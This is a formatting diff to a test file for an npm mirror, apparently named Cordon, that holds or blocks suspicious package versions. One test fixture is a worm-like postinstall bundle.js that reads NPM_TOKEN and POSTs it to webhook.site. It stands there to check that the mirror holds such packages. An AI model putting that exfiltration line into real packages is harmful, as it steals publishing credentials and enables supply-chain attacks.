@@ -21,7 +21,9 @@ test('a new postinstall holds the version past its cooldown; the 403 and the sta
     m.upstream.publish('worm-target', '1.0.1', {
       time: NOW - HOUR,
       scripts: { postinstall: 'node bundle.js' },
-      files: { 'bundle.js': 'const t = process.env.NPM_TOKEN; require("https").request({ hostname: "webhook.site", method: "POST" }).end(t);' },
+      files: {
+        'bundle.js': 'const t = process.env.NPM_TOKEN; require("https").request({ hostname: "webhook.site", method: "POST" }).end(t);',
+      },
     });
     m.upstream.publish('clean-lib', '2.0.0', { time: NOW - 30 * DAY });
     m.upstream.publish('clean-lib', '2.0.1', { time: NOW - HOUR, files: { 'index.js': 'module.exports = (a, b) => a + b;\n' } });
@@ -37,7 +39,10 @@ test('a new postinstall holds the version past its cooldown; the 403 and the sta
     const body = (await res.json()) as Record<string, string>;
     assert.equal(body.code, 'HELD');
     assert.equal(body.state, 'held');
-    assert.match(body.error, /worm-target@1\.0\.1 is held by Cordon for review: analysis found [a-z-]+\/[a-z-]+ \[critical\]: runs at install time/);
+    assert.match(
+      body.error,
+      /worm-target@1\.0\.1 is held by Cordon for review: analysis found [a-z-]+\/[a-z-]+ \[critical\]: runs at install time/,
+    );
 
     const st = await status(m.mirror.url, 'worm-target');
     assert.equal(st['1.0.1'].state, 'held');
@@ -65,7 +70,9 @@ test('a brand-new package is analysed against nothing and carries a low new-pack
     await m.mirror.pipeline.drain();
     const st = await status(m.mirror.url, 'brand-new');
     assert.equal(st['0.1.0'].analysis.previousVersion, null);
-    assert.ok(st['0.1.0'].findings.some((f: { rule: string; severity: string }) => f.rule === 'metadata/new-package' && f.severity === 'low'));
+    assert.ok(
+      st['0.1.0'].findings.some((f: { rule: string; severity: string }) => f.rule === 'metadata/new-package' && f.severity === 'low'),
+    );
     m.clock.advance(3 * DAY);
     assert.deepEqual(await versionsOf(`${m.mirror.url}brand-new`), ['0.1.0'], 'low findings do not hold');
   } finally {
@@ -94,7 +101,7 @@ test('transient upstream faults are retried with backoff; after the budget the v
       await m.mirror.pipeline.drain();
       m.clock.advance(60_000);
     }
-    const record = (await m.mirror.runtime.store.versions.versionOf('flaky', '1.0.2'));
+    const record = await m.mirror.runtime.store.versions.versionOf('flaky', '1.0.2');
     assert.equal(record?.state, 'held');
     assert.equal(record?.analysis, 'failed');
     const st = await status(m.mirror.url, 'flaky');
@@ -115,7 +122,7 @@ test('bytes that do not match the packument block the version', async () => {
     m.upstream.tarballOverrides.set('swapped-1.0.1.tgz', packTarball({ 'package.json': '{"name":"swapped"}', 'index.js': 'evil()' }));
     await fetch(`${m.mirror.url}swapped`);
     await m.mirror.pipeline.drain();
-    const record = (await m.mirror.runtime.store.versions.versionOf('swapped', '1.0.1'));
+    const record = await m.mirror.runtime.store.versions.versionOf('swapped', '1.0.1');
     assert.equal(record?.state, 'blocked');
     assert.match(record!.reason, /upstream served other bytes than the ones pinned at first sight/);
     assert.ok((await m.mirror.runtime.store.audit.ofPackage('swapped')).some((e) => e.cause === 'integrity-mismatch'));
@@ -178,7 +185,11 @@ test('withdrawn upstream (confirmed) and security placeholders (at once) block v
     const store = m.mirror.runtime.store;
     assert.equal((await store.versions.versionOf('pulled', '1.0.1'))?.state, 'blocked');
     assert.equal((await store.versions.versionOf('pulled', '1.0.0'))?.state, 'released', 'a released version withdrawn upstream stays');
-    assert.equal((await store.versions.versionOf('malware', '2.0.0'))?.state, 'blocked', 'a security placeholder blocks released versions too');
+    assert.equal(
+      (await store.versions.versionOf('malware', '2.0.0'))?.state,
+      'blocked',
+      'a security placeholder blocks released versions too',
+    );
     assert.equal((await store.versions.versionOf('malware', '2.0.1'))?.state, 'blocked');
     assert.ok((await store.audit.ofPackage('malware')).some((e) => e.cause === 'security-placeholder'));
     assert.ok((await store.audit.ofPackage('pulled')).some((e) => e.cause === 'withdrawn-upstream'));
